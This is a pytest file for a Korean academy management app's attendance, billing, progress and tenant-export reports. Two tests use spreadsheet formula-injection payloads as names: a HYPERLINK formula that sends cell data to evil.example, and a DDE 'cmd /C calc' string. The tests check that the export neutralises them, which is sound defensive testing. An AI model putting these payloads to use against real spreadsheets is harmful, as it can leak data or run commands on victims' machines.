"""report.* intents, dispatched as a caller would: the file under JOBQ_HOME/reports/<tenant>/
with Korean headings, and one ``reports`` row per kind, period and scope, replaced by a rerun."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import pytest

import app.core.settings
from app import dispatch_intent
from tests.academy import (
    enrol,
    make_class,
    make_invoice,
    make_session,
    make_student,
    mark,
    rows,
    seoul,
)
from tests.fixtures import make_tenant, sql, wait_for_status

pytestmark = pytest.mark.usefixtures("worker")


def run(tenant: str, intent: str, run_at: str | None = None, **params) -> dict:
    job_id = dispatch_intent.delay(tenant_id=tenant, intent_key=intent, intent_params=params,
                                   run_at=run_at).get(timeout=15)
    job = wait_for_status(job_id, timeout=60)
    assert job["status"] == "completed", job["error_message"]
    return job


def read_csv(path: str) -> list[list[str]]:
    raw = Path(path).read_bytes()
    assert raw.startswith("\ufeff".encode())  # so Excel in Korea reads it as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def reports(tenant: str) -> list[dict]:
    return rows("SELECT * FROM reports WHERE tenant_id = :t ORDER BY kind, period_start", t=tenant)


def test_weekly_report_fired_monday_morning_covers_the_week_just_ended(tenant):
    math, english = make_class(tenant, "중등 수학 A반"), make_class(tenant, "중등 영어 A반")
    kim, lee, park = (make_student(tenant, n) for n in ("김도윤", "이서아", "박시우"))
    for s in (kim, lee):
        enrol(s, math)
    enrol(park, english)
    mon, wed = make_session(math, seoul(2026, 11, 16, 17)), make_session(math, seoul(2026, 11, 18, 17))
    fri = make_session(english, seoul(2026, 11, 20, 19))
    make_session(math, seoul(2026, 11, 23, 17))  # this week: not in last week's report
    mark(mon, kim, "present")
    mark(wed, kim, "late")
    mark(mon, lee, "absent")
    mark(wed, lee, "absent")
    mark(fri, park, "excused")

    # What the schedule does: no parameters, run_at Monday 07:00 in Seoul.
    job = run(tenant, "report.exec.weekly_attendance", run_at="2026-11-23T07:00:00+09:00")
    run(tenant, "report.exec.weekly_attendance", run_at="2026-11-23T07:00:00+09:00")

    result = job["result"]
    assert (result["week_start"], result["week_end"], result["sessions"]) == (
        "2026-11-16", "2026-11-22", 3)
    home = app.core.settings.settings.home
    assert result["file"] == str(home / "reports" / tenant / "weekly_attendance"
                                 / "weekly-attendance-2026-11-16.csv")
    table = read_csv(result["file"])
    assert table[0] == ["반", "담당 강사", "학생", "학번", "학년", "수업 수", "출석", "지각",
                        "결석", "사유결석", "미확인", "출석률(%)"]
    assert table[1:] == [
        ["중등 수학 A반", "이선생", "김도윤", "", "중2", "2", "1", "1", "0", "0", "0", "100.0"],
        ["중등 수학 A반", "이선생", "이서아", "", "중2", "2", "0", "0", "2", "0", "0", "0.0"],
        ["중등 영어 A반", "이선생", "박시우", "", "중2", "1", "0", "0", "0", "1", "0", "0.0"],
    ]
    [report] = reports(tenant)  # the rerun replaced it
    assert report["kind"] == "weekly_attendance" and report["file_path"] == result["file"]
    assert report["summary"]["title"] == "주간 출결 보고서 (2026년 11월 16일 ~ 11월 22일)"
    assert report["summary"]["classes"][0] == {
        "class": "중등 수학 A반", "teacher": "이선생", "sessions": 2, "students": 2,
        "present": 1, "late": 1, "absent": 2, "excused": 0, "unchecked": 0,
        "attendance_rate": 50.0, "absent_twice_or_more": ["이서아"]}


def test_monthly_billing_report_totals_what_was_billed_and_collected(tenant):
    math, science = make_class(tenant, "수학 A반"), make_class(tenant, "과학 A반")
    a, b, c = (make_student(tenant, n) for n in ("가나다", "라마바", "사아자"))
    paid = make_invoice(enrol(a, math), dt.date(2026, 10, 1), 250_000, dt.date(2026, 10, 10),
                        status="paid")
    sql("INSERT INTO payments (tenant_id, invoice_id, amount, paid_at, method) "
        "VALUES (:t, :i, 250000, '2026-10-08T11:00:00+09:00', 'card')", t=tenant, i=paid.id)
    late = make_invoice(enrol(b, math), dt.date(2026, 10, 1), 250_000, dt.date(2026, 10, 10))
    sql("UPDATE invoices SET late_fee = 12500 WHERE id = :i", i=late.id)
    make_invoice(enrol(c, science), dt.date(2026, 10, 1), 260_000, dt.date(2026, 10, 10),
                 status="void")
    make_invoice(enrol(c, math), dt.date(2026, 11, 1), 250_000, dt.date(2026, 11, 10))

    job = run(tenant, "report.exec.monthly_billing", run_at="2026-11-01T06:00:00+09:00")

    result = job["result"]
    assert result["month"] == "2026-10"
    assert {k: result[k] for k in ("invoices", "billed", "collected", "outstanding", "late_fees",
                                   "overdue", "void", "collection_rate")} == {
        "invoices": 3, "billed": 512_500, "collected": 250_000, "outstanding": 262_500,
        "late_fees": 12_500, "overdue": 1, "void": 1, "collection_rate": 48.8}
    table = read_csv(result["file"])
    assert table[0][:4] == ["학생", "학번", "반", "청구월"]
    assert [(r[0], r[2], r[6], r[7], r[8], r[10], r[11]) for r in table[1:]] == [
        ("사아자", "과학 A반", "0", "0", "0", "취소", ""),
        ("가나다", "수학 A반", "250000", "250000", "0", "완납", "2026-10-08"),
        ("라마바", "수학 A반", "262500", "0", "262500", "미납", ""),
    ]
    [report] = reports(tenant)
    assert report["summary"]["title"] == "2026년 10월 수강료 정산 보고서"
    assert (report["period_start"], report["period_end"]) == (dt.date(2026, 10, 1),
                                                              dt.date(2026, 10, 31))


def test_report_cells_that_start_like_a_formula_are_text_in_a_spreadsheet(tenant):
    # Issue 22 (7): a name such as =HYPERLINK(...) went into the CSV as it was, and Excel (which
    # the BOM invites) runs it as a formula. OWASP's way: a leading single quote.
    klass = make_class(tenant, "+수학 A반")
    for name in ('=HYPERLINK("http://evil.example/?"&A1,"클릭")', "-2+3", "@SUM(1)", "\t=1",
                 "김-민준"):
        make_invoice(enrol(make_student(tenant, name), klass), dt.date(2026, 10, 1), 250_000,
                     dt.date(2026, 10, 10))

    job = run(tenant, "report.exec.monthly_billing", month="2026-10")

    table = read_csv(job["result"]["file"])
    assert sorted((r[0], r[2], r[4]) for r in table[1:]) == sorted([
        ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")", "'+수학 A반", "250000"),
        ("'-2+3", "'+수학 A반", "250000"),
        ("'@SUM(1)", "'+수학 A반", "250000"),
        ("'\t=1", "'+수학 A반", "250000"),
        ("김-민준", "'+수학 A반", "250000"),
    ])


def test_student_progress_lists_each_session_with_rates_per_class_and_month(tenant):
    klass = make_class(tenant, "고등 수학 A반")
    student = make_student(tenant, "한지민")
    enrol(student, klass, started_on=dt.date(2026, 9, 1))
    statuses = ("present", "late", "absent", None)
    for i, status in enumerate(statuses):
        session = make_session(klass, seoul(2026, 10, 27, 19) + dt.timedelta(days=2 * i))
        if status:
            mark(session, student, status)
    make_invoice(enrol(student, make_class(tenant, "고등 영어 A반")), dt.date(2026, 11, 1),
                 330_000, dt.date(2026, 11, 10))

    job = run(tenant, "report.exec.student_progress", student_id=str(student.id),
              from_date="2026-10-01", to_date="2026-11-30")

    result = job["result"]
    assert (result["sessions"], result["present"], result["late"], result["absent"],
            result["unchecked"], result["attendance_rate"]) == (4, 1, 1, 1, 1, 66.7)
    assert result["unpaid_invoices"] == 1 and result["unpaid_total"] == "330,000원"
    table = read_csv(result["file"])
    assert table[0] == ["날짜", "요일", "반", "수업 시간", "출결", "확인 시각"]
    assert [(r[0], r[1], r[4]) for r in table[1:]] == [
        ("2026-10-27", "화", "출석"), ("2026-10-29", "목", "지각"), ("2026-10-31", "토", "결석"),
        ("2026-11-02", "월", "미확인")]
    [report] = reports(tenant)
    assert report["scope"] == str(student.id)
    assert [m["month"] for m in report["summary"]["months"]] == ["2026-10", "2026-11"]
    assert report["summary"]["title"] == "한지민 학생 학습 현황 보고서 (2026년 10월 1일 ~ 11월 30일)"


def test_tenant_export_holds_every_table_of_that_academy_and_no_other(tenant):
    klass = make_class(tenant, "초등 수학 A반")
    enrol(make_student(tenant, "우리학생"), klass)
    other = make_tenant("다른 학원")
    make_student(other, "남의학생")

    job = run(tenant, "report.exec.export_tenant_data")

    result = job["result"]
    with zipfile.ZipFile(result["file"]) as archive:
        names = set(archive.namelist())
        students_csv = archive.read("students.csv").decode("utf-8-sig")
        manifest = json.loads(archive.read("manifest.json"))
        readme = archive.read("README.txt").decode()
    assert {"tenant.csv", "students.csv", "guardians.csv", "enrolments.csv", "classes.csv",
            "invoices.csv", "notifications.csv", "README.txt", "manifest.json"} <= names
    assert "우리학생" in students_csv and "남의학생" not in students_csv
    assert manifest["tables"]["students"] == 1 and manifest["tables"]["enrolments"] == 1
    assert "students.csv: 학생 (1행)" in readme
    assert result["rows"] == sum(manifest["tables"].values())
    [report] = reports(tenant)
    assert report["kind"] == "tenant_export" and report["summary"]["sha256"] == result["sha256"]
    assert job["result"]["isolation"] == "repeatable read"


def test_tenant_export_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers(tenant):
    klass = make_class(tenant, "=1+1")
    sql("UPDATE classes SET capacity = -5, teacher = '@선생' WHERE id = :c", c=klass.id)
    enrol(make_student(tenant, "-2+3"), klass)
    sql("UPDATE tenants SET name = :n WHERE id = :t", n="=cmd|' /C calc'!A0", t=tenant)

    job = run(tenant, "report.exec.export_tenant_data")

    with zipfile.ZipFile(job["result"]["file"]) as archive:
        def table(name: str) -> list[dict[str, str]]:
            return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))

        [academy], [klass_row], [student] = (table(n) for n in (
            "tenant.csv", "classes.csv", "students.csv"))
        manifest = json.loads(archive.read("manifest.json"))
    assert academy["name"] == "'=cmd|' /C calc'!A0"
    assert (klass_row["name"], klass_row["teacher"], klass_row["capacity"]) == (
        "'=1+1", "'@선생", "-5")
    assert klass_row["monthly_fee"] == "250000" and klass_row["id"] == str(klass.id)
    assert student["name"] == "'-2+3" and student["grade"] == "8"
    # The headings and the rest are as COPY writes them.
    assert list(klass_row)[:3] == ["id", "tenant_id", "term_id"]
    assert manifest["tenant"] == "=cmd|' /C calc'!A0"  # JSON is data, not a spreadsheet
